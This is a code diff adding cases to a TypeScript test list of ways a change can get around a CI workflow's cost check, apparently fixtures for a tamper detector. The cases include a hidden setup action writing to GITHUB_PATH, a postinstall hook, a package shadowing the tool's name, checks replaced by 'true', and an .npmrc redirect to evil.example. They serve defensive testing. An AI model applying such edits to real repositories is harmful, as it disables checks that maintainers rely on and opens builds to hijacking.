@@ -187,4 +187,50 @@ export const aroundTheWorkflow: readonly Trick[] = [
     { '.npmrc': 'registry=https://evil.example\n' },
     '.npmrc',
   ),
+  way(
+    'the folder of an action that the job runs before it',
+    {
+      [at]: workflow.replace('      - uses: acme', '      - uses: ./ci/setup\n      - uses: acme'),
+      'ci/setup/action.yml': 'runs: { using: node24, main: index.js }\n',
+      'ci/setup/index.js': 'true\n',
+    },
+    { 'ci/setup/index.js': "require('fs').appendFileSync(process.env.GITHUB_PATH, '/tmp/x')\n" },
+    'ci/setup/index.js',
+  ),
+  way(
+    'a variable of a Makefile',
+    { [at]: command('make cost'), Makefile: 'PC = npx promptcost\ncost:\n\t$(PC)\n' },
+    { Makefile: 'PC = true\ncost:\n\t$(PC)\n' },
+    'Makefile so that it no longer runs',
+  ),
+  way(
+    'the script of a package in another folder',
+    { [at]: command('npm --prefix app run cost'), 'app/package.json': scripts('promptcost') },
+    { 'app/package.json': scripts('promptcost || true') },
+    'app/package.json',
+  ),
+  way(
+    'a service of a compose file',
+    { [at]: command('docker compose run cost'), 'compose.yml': 'services: { cost: { command: npx promptcost } }\n' },
+    { 'compose.yml': 'services: { cost: { command: "true" } }\n' },
+    'compose.yml so that it no longer runs',
+  ),
+  way(
+    'a script that runs when packages are installed',
+    { [at]: command('npx promptcost'), 'package.json': scripts('true') },
+    { 'package.json': scripts('true', ',"private":true').replace('{"cost"', '{"postinstall":"node x.js","cost"') },
+    'postinstall',
+  ),
+  way(
+    'a patch of the package',
+    { [at]: command('npx promptcost') },
+    { 'patches/promptcost+0.1.0.patch': '--- a\n+++ b\n' },
+    'patches/promptcost+0.1.0.patch',
+  ),
+  way(
+    'a package of the workspace by its name',
+    { [at]: command('npx promptcost'), 'package.json': '{"workspaces":["packages/*"]}' },
+    { 'packages/x/package.json': '{"name":"promptcost","bin":"x.js"}', 'packages/x/x.js': '' },
+    'packages/x/package.json',
+  ),
 ]
